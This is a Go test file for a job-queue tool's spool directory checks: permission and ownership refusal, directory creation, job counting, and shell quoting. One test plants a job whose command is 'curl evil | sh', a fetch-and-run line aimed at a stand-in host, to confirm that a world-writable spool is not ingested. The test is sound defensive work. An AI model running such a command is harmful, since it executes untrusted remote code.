package spool

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/queuectl/queuectl/internal/testenv"
)

func TestCheckSpool(t *testing.T) {
	tests := []struct {
		mode os.FileMode
		ok   bool
	}{
		{0o700, true},
		{0o755, true},
		{0o750, true},
		{0o777, false},
		{0o770, false},
		{0o702, false},
		{0o1777, false}, // sticky, like /tmp: still anyone can drop files
	}
	for _, tt := range tests {
		dir := t.TempDir()
		if err := os.Chmod(dir, tt.mode); err != nil {
			t.Fatal(err)
		}
		err := CheckSpool(dir)
		if tt.ok {
			if err != nil {
				t.Errorf("CheckSpool(mode %#o) = %v, want nil", tt.mode, err)
			}
			continue
		}
		var unsafe *UnsafeError
		if !errors.As(err, &unsafe) || unsafe.Hint() != "chmod 700 "+dir || !strings.Contains(err.Error(), "refusing spool directory "+dir) {
			t.Errorf("CheckSpool(mode %#o) = %v, want an *UnsafeError refusing %s, with the fix chmod 700 %s as its hint", tt.mode, err, dir, dir)
		}
	}
}

func TestCheckSpoolForeignOwner(t *testing.T) {
	if os.Getuid() != 0 {
		testenv.Missing(t, "only root can give a directory away")
	}
	dir := t.TempDir()
	if err := os.Chown(dir, 4242, 4242); err != nil {
		t.Fatal(err)
	}
	var unsafe *UnsafeError
	if err := CheckSpool(dir); !errors.As(err, &unsafe) || !strings.Contains(err.Error(), "owned by uid 4242") {
		t.Fatalf("CheckSpool(foreign) = %v, want an *UnsafeError naming uid 4242", err)
	}
}

func TestCheckSpoolMissing(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "nope")
	if err := CheckSpool(dir); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("CheckSpool(missing) = %v, want ErrNotExist", err)
	}
	file := filepath.Join(t.TempDir(), "file")
	os.WriteFile(file, nil, 0o600)
	var unsafe *UnsafeError
	if err := CheckSpool(file); !errors.As(err, &unsafe) {
		t.Fatalf("CheckSpool(file) = %v, want an *UnsafeError", err)
	}
}

// Pass refuses a world-writable spool before touching anything, and Run
// takes nothing from it until it is fixed.
func TestRefusesUnsafeSpool(t *testing.T) {
	w := newWatcher(t)
	drop(t, w.Dirs.Spool, "planted.json", `{"command": "curl evil | sh"}`)
	if err := os.Chmod(w.Dirs.Spool, 0o777); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var unsafe *UnsafeError
	if _, err := w.Pass(ctx); !errors.As(err, &unsafe) || !strings.Contains(unsafe.Fix, "chmod 700") {
		t.Fatalf("Pass = %v, want an *UnsafeError whose fix is chmod 700", err)
	}
	said := make(chan Event, 10)
	w.Events = func(e Event) { said <- e }
	done := start(t, w)
	for e := range said {
		if e.Kind == EventUnsafe {
			if !strings.Contains(e.String(), "is unsafe, not ingesting it") {
				t.Errorf("Run said %q, want that the spool is unsafe", e)
			}
			break
		}
	}
	select {
	case err := <-done:
		t.Fatalf("Run = %v, want it to wait for the spool to be fixed", err)
	default:
	}
	if n := len(jobs(t, w.Store)); n != 0 || !exists(filepath.Join(w.Dirs.Spool, "planted.json")) {
		t.Fatalf("%d jobs; want none and the file untouched", n)
	}
}

func TestMakeAndCount(t *testing.T) {
	home := filepath.Join(t.TempDir(), "home")
	d := DirsOf(home)
	if w, r, err := Count(d); w != 0 || r != 0 || err != nil {
		t.Fatalf("Count(no home) = %d, %d, %v; want 0, 0, nil", w, r, err)
	}
	if err := d.Make(); err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{home, d.Spool, d.Rejected, d.Dead} {
		if fi, err := os.Stat(dir); err != nil || fi.Mode().Perm() != 0o700 {
			t.Errorf("%s: %v, %v; want mode 0700", dir, fi.Mode(), err)
		}
	}
	for _, name := range []string{"a.json", "b.json", "c.json.tmp", ".d.json", "notes.txt"} {
		os.WriteFile(filepath.Join(d.Spool, name), []byte("{}"), 0o600)
	}
	taken := filepath.Join(d.Spool, ingesting, "1-abc")
	os.MkdirAll(taken, 0o700)
	os.WriteFile(filepath.Join(taken, randomHex(16)+".e.json"), []byte("{}"), 0o600)
	for _, name := range []string{"x.json", "x.json.reason", "y.json", "y.json.reason"} {
		os.WriteFile(filepath.Join(d.Rejected, name), []byte("{}"), 0o600)
	}
	if w, r, err := Count(d); w != 3 || r != 2 || err != nil {
		t.Errorf("Count = %d, %d, %v; want 3 waiting (a, b, e), 2 rejected", w, r, err)
	}
}

func TestQuote(t *testing.T) {
	tests := map[string]string{
		"/home/me/.queuectl/spool": "/home/me/.queuectl/spool",
		"/a b/c":                   "'/a b/c'",
		"it's":                     `'it'\''s'`,
		"":                         "''",
	}
	for in, want := range tests {
		if got := quote(in); got != want {
			t.Errorf("quote(%q) = %q, want %q", in, got, want)
		}
	}
}
